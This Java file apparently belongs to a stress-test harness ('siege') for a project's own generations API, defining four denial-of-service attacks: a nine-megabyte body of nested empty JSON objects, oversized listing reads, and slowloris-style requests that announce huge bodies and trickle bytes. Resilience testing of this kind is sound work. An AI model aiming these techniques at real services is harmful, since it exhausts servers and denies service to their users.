package ai.nolmt.generations.proof.siege;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.UUID;
import java.util.concurrent.TimeUnit;

/** One connection's worth of each attack; each call is one try, and whatever comes of it is fine for the attacker. */
enum Attack {
    /** Nine megabytes of settings, which as a tree would be a quarter of a gigabyte. */
    TREES {
        @Override
        void once(Target target, UUID user) throws IOException, InterruptedException {
            String head = "{\"generationType\":\"image\",\"settings\":{\"a\":[";
            try (Socket socket = target.connect()) {
                OutputStream out = socket.getOutputStream();
                boolean parts = user.hashCode() % 2 == 0;
                String type = parts ? "multipart/form-data; boundary=b" : "application/json";
                write(out, target.head(user, type, 9_000_000L));
                if (parts) {
                    write(out, "--b\r\nContent-Disposition: form-data; name=\"job\"\r\n\r\n");
                }
                write(out, head);
                byte[] objects = "{},".repeat(10_000).getBytes(StandardCharsets.US_ASCII);
                for (int i = 0; i < 300; i++) {
                    out.write(objects);
                }
            }
        }
    },
    /** A list of rows that their user wrote by SQL, whose settings are short in the database and long in print. */
    NUMBERS {
        @Override
        void once(Target target, UUID user) throws IOException {
            try (Socket socket = target.connect()) {
                write(socket.getOutputStream(), target.get(user, "/api/generations?limit=200"));
                socket.getInputStream().readNBytes(10_000_000);
            }
        }
    },
    /** No token, much announced, and a byte now and then. */
    STRANGERS {
        @Override
        void once(Target target, UUID user) throws IOException, InterruptedException {
            try (Socket socket = target.connect()) {
                write(socket.getOutputStream(), target.head(null, "application/json", 90_000_000L));
                trickle(socket);
            }
        }
    },
    /** One user's bodies, byte by byte. */
    TRICKLES {
        @Override
        void once(Target target, UUID user) throws IOException, InterruptedException {
            try (Socket socket = target.connect()) {
                write(socket.getOutputStream(), target.head(Target.ONE_USER, "application/json", 15_000_000L));
                trickle(socket);
            }
        }
    };

    private static final int BYTES = 200;

    abstract void once(Target target, UUID user) throws IOException, InterruptedException;

    private static void trickle(Socket socket) throws IOException, InterruptedException {
        for (int i = 0; i < BYTES; i++) {
            write(socket.getOutputStream(), " ");
            TimeUnit.MILLISECONDS.sleep(200);
        }
    }

    private static void write(OutputStream out, String text) throws IOException {
        out.write(text.getBytes(StandardCharsets.US_ASCII));
        out.flush();
    }
}
